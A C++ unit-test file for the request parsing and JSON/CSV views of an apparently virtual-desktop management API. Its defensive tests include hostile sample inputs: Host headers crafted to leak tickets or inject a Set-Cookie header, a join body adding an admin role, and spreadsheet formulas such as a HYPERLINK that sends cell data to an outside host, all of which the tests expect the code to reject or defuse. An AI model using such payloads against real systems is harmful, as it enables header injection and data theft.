// Request parsing is pure: every malformed body is a clear InvalidArgument.
#include "parse.h"

#include <gtest/gtest.h>

#include "rest_support.h"
#include "views.h"

namespace oriel::api {
namespace {

TEST(ParseTest, CreateDesktopTakesDefaultsAndRejectsBadFields) {
  auto ok = parse_create_desktop(R"({"name":"d","image_id":"i-1","vcpus":2,"memory_mb":2048})");
  ASSERT_TRUE(ok.ok()) << ok.error().message();
  EXPECT_EQ(ok->vcpus, 2);
  EXPECT_TRUE(ok->start);
  EXPECT_EQ(parse_create_desktop(R"({"name":"d","image_id":"i","vcpus":0,"memory_mb":64})").error().message(),
            "field 'vcpus' must be between 1 and 512");
  EXPECT_EQ(parse_create_desktop(R"({"name":"d","image_id":"i","vcpus":1.5,"memory_mb":64})").error().message(),
            "field 'vcpus' must be an integer");
  EXPECT_EQ(parse_create_desktop(R"({"name":"d","image_id":"i","vcpus":1})").error().message(),
            "field 'memory_mb' is required");
  EXPECT_EQ(parse_create_desktop("[]").error().message(), "request body must be a JSON object");
  EXPECT_EQ(parse_create_desktop("").error().code(), ErrorCode::kInvalidArgument);
}

TEST(ParseTest, CreateImageBootIsKernelOrFirmware) {
  auto kernel = parse_create_image(R"({"name":"n","source_path":"/a","boot":{"kernel":"/k","cmdline":"quiet"}})");
  ASSERT_TRUE(kernel.ok());
  EXPECT_EQ(kernel->boot.kind, agent::BootSpec::Kind::kDirectKernel);
  EXPECT_EQ(kernel->format, "auto");
  auto uefi = parse_create_image(R"({"name":"n","source_path":"/a","format":"vhdx","boot":{"firmware":"uefi"}})");
  ASSERT_TRUE(uefi.ok());
  EXPECT_EQ(uefi->boot.kind, agent::BootSpec::Kind::kUefi);
  EXPECT_FALSE(parse_create_image(R"({"name":"n","source_path":"/a","boot":{"firmware":"coreboot"}})").ok());
  EXPECT_FALSE(parse_create_image(R"({"name":"n","source_path":"/a","boot":{"firmware":"bios","kernel":"/k"}})").ok());
  EXPECT_FALSE(parse_create_image(R"({"name":"n","source_path":"/a","boot":"bios"})").ok());
  auto owned = parse_create_image(R"({"name":"n","source_path":"/a","tenant_id":"t-1"})").value();
  EXPECT_EQ(owned.tenant_id, "t-1");
  EXPECT_FALSE(owned.shared);
  EXPECT_TRUE(parse_create_image(R"({"name":"n","source_path":"/a","shared":true})")->shared);
  EXPECT_FALSE(parse_create_image(R"({"name":"n","source_path":"/a","shared":"yes"})").ok());
  auto update = parse_update_image(R"({"shared":false})").value();
  EXPECT_EQ(update.shared, false);
  EXPECT_FALSE(update.name);
  EXPECT_FALSE(parse_update_image(R"({"tenant_id":"t-2"})").ok()) << "an image's owner never changes";
}

// Security probe #10: display URLs were built from any Host header.
TEST(ParseTest, AHostHeaderIsAHostAndAPortAndNothingElse) {
  for (const char* good :
       {"oriel.example.com", "oriel.example.com:8443", "127.0.0.1:8080", "[::1]:8443", "[fd00::2]", "localhost"}) {
    EXPECT_TRUE(is_host_and_port(good)) << good;
  }
  for (const char* bad : {"", "evil.example/x?ticket=", "a@evil.example", "host:80:80", "host:", "host:123456", "[::1",
                          "[127.0.0.1]:80", "ho st", "host:8o", "-lead.example", "x\r\nSet-Cookie: a=b"}) {
    EXPECT_FALSE(is_host_and_port(bad)) << bad;
  }
}

TEST(ParseTest, ATenantsQuotaIsWholeNumbersOrNone) {
  auto q = parse_tenant_patch(R"({"quota":{"desktops":10,"vcpus":null,"disk_gb":0}})").value();
  EXPECT_EQ(q.quota, (store::Quota{10, 0, 0, 0})) << "absent, null and 0 are no limit";
  EXPECT_FALSE(q.audit);
  for (const char* bad : {R"({})", R"({"quota":5})", R"({"quota":{"desktops":-1}})", R"({"quota":{"vcpus":2.5}})",
                          R"({"quota":{"vcpus":"4"}})", R"({"quota":{"cpus":4}})", R"({"quota":{},"name":"x"})",
                          R"({"quota":{"memory_mb":2199023255553}})"}) {
    auto r = parse_tenant_patch(bad);
    ASSERT_FALSE(r.ok()) << bad;
    EXPECT_EQ(r.error().code(), ErrorCode::kInvalidArgument) << bad;
  }
}

// Only what is given changes (the controller keeps the rest: broker_test).
TEST(ParseTest, ATenantsAuditPolicyChangesOnlyWhatIsGiven) {
  auto hold_off = parse_tenant_patch(R"({"audit":{"legal_hold":false}})")->audit.value();
  EXPECT_FALSE(hold_off.retention_days);
  EXPECT_EQ(hold_off.legal_hold, false);
  auto for_ever = parse_tenant_patch(R"({"audit":{"retention_days":null}})")->audit.value();
  EXPECT_EQ(for_ever.retention_days, 0) << "null days is for ever";
  EXPECT_FALSE(for_ever.legal_hold);
  auto both = parse_tenant_patch(R"({"audit":{"retention_days":30},"quota":{}})").value();
  EXPECT_EQ(both.audit->retention_days, 30);
  EXPECT_FALSE(both.audit->legal_hold);
  EXPECT_EQ(both.quota, store::Quota{});
  for (const char* bad : {R"({"audit":1})", R"({"audit":{"retention_days":-1}})", R"({"audit":{"legal_hold":"yes"}})",
                          R"({"audit":{"retention_days":36601}})", R"({"audit":{"keep":1}})"}) {
    auto r = parse_tenant_patch(bad);
    ASSERT_FALSE(r.ok()) << bad;
    EXPECT_EQ(r.error().code(), ErrorCode::kInvalidArgument) << bad;
  }
}

TEST(ParseTest, ActionsAreKnownByName) {
  EXPECT_EQ(parse_action("reset").value(), controller::DesktopAction::kReset);
  EXPECT_EQ(parse_action("fly").error().code(), ErrorCode::kNotFound);
  EXPECT_EQ(parse_host_action("maintenance").value(), controller::HostAction::kMaintenance);
  EXPECT_EQ(parse_host_action("reboot").error().code(), ErrorCode::kNotFound);
}

TEST(ParseTest, AMigrateBodyNamesAHostOrNone) {
  EXPECT_EQ(parse_migrate("").value(), "");
  EXPECT_EQ(parse_migrate("{}").value(), "");
  EXPECT_EQ(parse_migrate(R"({"host_id":"h-1"})").value(), "h-1");
  EXPECT_EQ(parse_migrate(R"({"host":"h-1"})").error().code(), ErrorCode::kInvalidArgument);
  EXPECT_EQ(parse_migrate(R"({"host_id":7})").error().code(), ErrorCode::kInvalidArgument);
}

TEST(ParseTest, TheClustersBodiesTakeTheirFieldsAndNothingElse) {
  EXPECT_EQ(parse_join_token("").value(), std::chrono::hours(1));
  EXPECT_EQ(parse_join_token("{}").value(), std::chrono::hours(1));
  EXPECT_EQ(parse_join_token(R"({"ttl_s":600})").value(), std::chrono::minutes(10));
  for (const char* bad :
       {"[]", "not json", R"({"ttl":600})", R"({"ttl_s":"1h"})", R"({"ttl_s":1.5})", R"({"ttl_s":-1})"}) {
    EXPECT_EQ(parse_join_token(bad).error().code(), ErrorCode::kInvalidArgument) << bad;
  }
  auto join = parse_join(R"({"token":"oj-1","host_name":"h1","address":"10.0.0.1","csr":"PEM"})");
  ASSERT_TRUE(join.ok()) << join.error().message();
  EXPECT_EQ(join->token, "oj-1");
  EXPECT_EQ(join->host_name, "h1");
  EXPECT_EQ(join->address, "10.0.0.1");
  EXPECT_EQ(join->csr, "PEM");
  for (const char* bad : {"", "{}", R"({"token":"t","host_name":"h","address":"a"})",
                          R"({"token":1,"host_name":"h","address":"a","csr":"c"})",
                          R"({"token":"t","host_name":"h","address":"a","csr":"c","role":"admin"})"}) {
    EXPECT_EQ(parse_join(bad).error().code(), ErrorCode::kInvalidArgument) << bad;
  }
  EXPECT_EQ(parse_renew(R"({"address":"10.0.0.1","csr":"PEM"})").value().csr, "PEM");
  EXPECT_EQ(parse_renew(R"({"csr":"PEM"})").error().code(), ErrorCode::kInvalidArgument);
  EXPECT_EQ(parse_renew(R"({"address":"a","csr":"c","host_name":"h2"})").error().code(), ErrorCode::kInvalidArgument);
}

TEST(ApiViewsTest, DesktopJsonShowsThePublicStateAndNulls) {
  store::DesktopRecord d;
  d.id = "d-1";
  d.state = "resetting";
  d.desired = "running";
  Json j = view::Desktop::of(d).json();
  EXPECT_EQ(j["state"], "provisioning");
  EXPECT_TRUE(j["pool_id"].is_null());
  EXPECT_TRUE(j["error"].is_null());
  EXPECT_EQ(j["created_at"], "1970-01-01T00:00:00.000Z");
}

TEST(ParseTest, PoolsNeedEveryRequiredFieldAndRefuseUnknownOnes) {
  auto pool = parse_create_pool(
      R"({"name":"Office","tenant_id":"t-1","image_id":"i-1","type":"pooled","size":5,"spare":1,"vcpus":2,"memory_mb":2048})");
  ASSERT_TRUE(pool.ok()) << pool.error().message();
  EXPECT_EQ(pool->provisioning, "on-demand");
  EXPECT_EQ(pool->clipboard, "both");
  EXPECT_EQ(pool->idle_timeout_s, 0);
  auto missing = parse_create_pool(R"({"name":"Office","image_id":"i-1","type":"pooled"})");
  ASSERT_FALSE(missing.ok());
  EXPECT_NE(missing.error().message().find("size"), std::string::npos) << missing.error().message();
  auto typo = parse_update_pool(R"({"spares":3})");
  ASSERT_FALSE(typo.ok());
  EXPECT_NE(typo.error().message().find("spares"), std::string::npos);
  auto patch = parse_update_pool(R"({"spare":3})").value();
  EXPECT_EQ(patch.spare, 3);
  EXPECT_FALSE(patch.clipboard.has_value());
  EXPECT_EQ(parse_update_pool(R"({"clipboard":"none"})").value().clipboard, "none");
  EXPECT_FALSE(patch.size.has_value());
  EXPECT_EQ(parse_update_pool(R"({"size":-1})").error().code(), ErrorCode::kInvalidArgument);
}

TEST(ParseTest, IdBodiesHoldExactlyOneStringField) {
  EXPECT_EQ(parse_id_field(R"({"pool_id":"p-1"})", "pool_id").value(), "p-1");
  EXPECT_FALSE(parse_id_field(R"({"pool_id":1})", "pool_id").ok());
  EXPECT_FALSE(parse_id_field(R"({"pool_id":"p-1","x":1})", "pool_id").ok());
  EXPECT_FALSE(parse_id_field("[]", "pool_id").ok());
}

TEST(ParseTest, AuditQueriesCheckTimesAndLimits) {
  auto f = parse_audit_query({{"tenant_id", "t-1"}, {"since", "2026-11-22T00:00:00Z"}, {"limit", "10"}}).value();
  EXPECT_EQ(f.tenant_id.value(), "t-1");
  EXPECT_EQ(f.limit, 10);
  EXPECT_TRUE(f.since.has_value());
  EXPECT_FALSE(f.until.has_value());
  EXPECT_FALSE(parse_audit_query({{"limit", "0"}}).ok());
  EXPECT_FALSE(parse_audit_query({{"limit", "10x"}}).ok());
  EXPECT_FALSE(parse_audit_query({{"since", "yesterday"}}).ok());
}

TEST(ApiViewsTest, UsageCsvQuotesFieldsThatNeedIt) {
  controller::UsageReport r{"2026-11-22", "2026-11-22", {}, {{"2026-11-22", "t-1", "u-1", "o'neil, \"jr\"", 1.5}}};
  EXPECT_EQ(view::usage_csv(r), "kind,day,tenant_id,pool_id,user_id,username,hours\r\n"
                                "session,2026-11-22,t-1,,u-1,\"o'neil, \"\"jr\"\"\",1.5000\r\n");
}

// OWASP's CSV injection: a name a spreadsheet would evaluate stays text.
TEST(ApiViewsTest, UsageCsvDefusesFormulas) {
  controller::UsageReport r{"2026-11-22", "2026-11-22", {}, {}};
  for (std::string name : {"=HYPERLINK(\"http://x/?\"&A2,\"Click\")", "+1", "-2+3", "@SUM(A1)", "\tcmd"}) {
    r.sessions = {{"2026-11-22", "t-1", "u-1", name, 1}};
    std::string csv = view::usage_csv(r);
    std::string field = csv.substr(csv.find(",u-1,") + 5);
    EXPECT_TRUE(field.starts_with("'") || field.starts_with("\"'")) << field;
  }
  r.sessions = {{"2026-11-22", "t-1", "u-1", "ana-maria", 1}};
  EXPECT_NE(view::usage_csv(r).find(",ana-maria,"), std::string::npos) << "only the first character counts";
}

TEST(RefusalSamplerTest, OneEventPerAddressAndMinuteCountingTheRest) {
  RefusalSampler sampler;
  auto t0 = std::chrono::steady_clock::time_point{} + std::chrono::hours(1);
  int64_t count = 0;
  EXPECT_TRUE(sampler.due("10.0.0.1", t0, count));
  EXPECT_EQ(count, 1);
  for (int i = 1; i <= 5; ++i) EXPECT_FALSE(sampler.due("10.0.0.1", t0 + std::chrono::seconds(i), count));
  EXPECT_TRUE(sampler.due("10.0.0.2", t0 + std::chrono::seconds(6), count)) << "another address is its own";
  EXPECT_EQ(count, 1);
  EXPECT_TRUE(sampler.due("10.0.0.1", t0 + RefusalSampler::kInterval, count));
  EXPECT_EQ(count, 6) << "the five held back and this one";
  EXPECT_FALSE(sampler.due("10.0.0.1", t0 + RefusalSampler::kInterval + std::chrono::seconds(1), count));
}

}  // namespace
}  // namespace oriel::api
